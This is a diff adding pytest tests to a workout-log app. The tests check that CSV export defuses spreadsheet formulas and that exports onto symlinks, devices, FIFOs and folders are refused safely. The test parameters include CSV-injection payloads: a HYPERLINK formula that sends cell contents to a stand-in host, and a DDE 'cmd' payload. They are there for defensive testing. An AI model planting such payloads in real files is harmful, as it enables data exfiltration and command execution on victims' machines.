@@ -3,8 +3,11 @@
 from __future__ import annotations
 
 import copy
+import csv
+import io
 import json
 import os
+import stat
 from collections.abc import Callable
 from datetime import date
 from pathlib import Path
@@ -29,6 +32,7 @@ from app.storage import (
     SafetyAnswers,
 )
 from app.storage import files as files_module
+from app.storage.transfer import defused
 from tests.storage.conftest import DAY, T0, block, fill_the_disk
 
 SUMMER = 1751356800.0  # 2025-07-01 08:00 UTC
@@ -424,3 +428,144 @@ def test_any_text_survives_the_round_trip(tmp_path_factory, note: str, name: str
         [summary] = log.sessions()
         assert (summary.routine_id, summary.routine_name, summary.note) == (name, name, note)
         log.close(backup=False)
+
+
+# ------------------------------------------------------------- CSV injection
+
+
+@pytest.mark.parametrize(
+    ("routine_id", "cell"),
+    [
+        ('=HYPERLINK("http://x.example/?"&A1,"Click")', '"\'=HYPERLINK(""http://x.example/?""&A1,""Click"")"'),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "\"'\r=1\""),
+        ("a\rb", "\"a\rb\""),
+        ("daily-ten", "daily-ten"),
+        ("a=b", "a=b"),
+    ],
+)  # fmt: skip
+def test_a_cell_a_spreadsheet_would_run_is_written_as_text(
+    log: Log, data_dir: Path, tmp_path: Path, routine_id: str, cell: str
+) -> None:
+    """An imported routine id (ids are any text in an export) comes out defused."""
+    source = tmp_path / "source"
+    source.mkdir()
+    with Log.open(source) as other:
+        session = other.start_session(routine_id, "Name", 60, T0)
+        other.save_block(session, block(0, exercise_id=routine_id), 1)
+        other.export_json(tmp_path / "a.json", {})
+        other.close(backup=False)
+    log.import_json(tmp_path / "a.json")
+    dest = data_dir / "blocks.csv"
+    log.export_csv(dest)
+    row = dest.read_bytes().decode("utf-8").split("\n", 1)[1]
+    # routine_id and exercise_id, side by side after the session's start.
+    assert f",{cell},{cell}," in row
+    [read] = list(csv.reader(io.StringIO(row, newline="")))
+    assert read[2:4] == [defused(routine_id)] * 2 and read[4] == "left"
+
+
+def test_numbers_are_never_defused(log: Log, data_dir: Path) -> None:
+    session = log.start_session("r", "R", 60, T0)
+    log.save_block(session, block(0, done_seconds=0.0), 1)
+    dest = data_dir / "blocks.csv"
+    log.export_csv(dest)
+    assert ",30,0,,,completed,," in dest.read_text()
+
+
+# ------------------------------------------------------------ export targets
+
+
+def test_an_export_through_a_link_writes_the_file_it_names(
+    log: Log, data_dir: Path, tmp_path: Path
+) -> None:
+    fill(log)
+    target = tmp_path / "elsewhere" / "blocks.csv"
+    target.parent.mkdir()
+    target.write_text("old\n")
+    target.chmod(0o644)
+    link = tmp_path / "link.csv"
+    link.symlink_to(target)
+    assert log.export_csv(link) == 4
+    assert link.is_symlink() and os.readlink(link) == str(target)
+    assert target.read_text().startswith("session_id,")
+    assert oct(os.stat(target).st_mode & 0o777) == "0o644"  # the file keeps its mode
+    # The temporary file was made beside the real target, and is gone.
+    assert sorted(p.name for p in target.parent.iterdir()) == ["blocks.csv"]
+    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []
+
+
+def test_an_export_through_a_dangling_link_makes_the_file_it_names(
+    log: Log, tmp_path: Path
+) -> None:
+    target = tmp_path / "new.json"
+    link = tmp_path / "link.json"
+    link.symlink_to(target)
+    log.export_json(link, {})
+    assert link.is_symlink()
+    assert json.loads(target.read_text())["format"] == "footwork-log"
+    assert oct(os.stat(target).st_mode & 0o777) == "0o600"  # a new file is owner-only
+
+
+def make_char_device(path: Path) -> Path:
+    """A character device node like /dev/null (as root); else /dev/null itself."""
+    if os.geteuid() != 0:
+        return Path("/dev/null")
+    os.mknod(path, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
+    return path
+
+
+@pytest.mark.parametrize("kind", ["character device", "FIFO", "folder", "link to a FIFO", "loop"])
+def test_an_export_onto_what_is_not_a_file_is_refused_and_left_alone(
+    log: Log, tmp_path: Path, kind: str
+) -> None:
+    fill(log)
+    path = tmp_path / "target"
+    words = kind
+    if kind == "character device":
+        path = make_char_device(path)
+    elif kind == "FIFO":
+        os.mkfifo(path)
+    elif kind == "folder":
+        path.mkdir()
+    elif kind == "link to a FIFO":
+        os.mkfifo(tmp_path / "fifo")
+        path.symlink_to(tmp_path / "fifo")
+        words = "FIFO"
+    else:
+        path.symlink_to(tmp_path / "other")
+        (tmp_path / "other").symlink_to(path)
+        words = "symbolic link"
+    before = os.lstat(path)
+    for export in (lambda: log.export_csv(path), lambda: log.export_json(path, {})):
+        with pytest.raises(ExportError) as caught:
+            export()
+        assert str(caught.value) == (
+            f"Cannot write {path}: it is a{'n' if words[0] in 'aeiou' else ''} {words}, "
+            "not a file. Footwork left it as it is; choose a file to export to."
+        )
+    after = os.lstat(path)
+    assert (after.st_mode, after.st_ino, after.st_rdev) == (
+        before.st_mode, before.st_ino, before.st_rdev,
+    )  # fmt: skip
+    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []
+
+
+def test_export_onto_a_device_from_the_command_line_exits_2_and_keeps_it(
+    data_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    from app.cli import main
+
+    with Log.open(data_dir) as log:
+        fill(log)
+        log.close(backup=False)
+    device = make_char_device(tmp_path / "null")
+    assert main(["--export", str(device), "--data-dir", str(data_dir)]) == 2
+    assert capsys.readouterr().err == (
+        f"footwork: Cannot write {device}: it is a character device, not a file. Footwork left "
+        "it as it is; choose a file to export to.\n"
+    )
+    assert stat.S_ISCHR(os.lstat(device).st_mode)
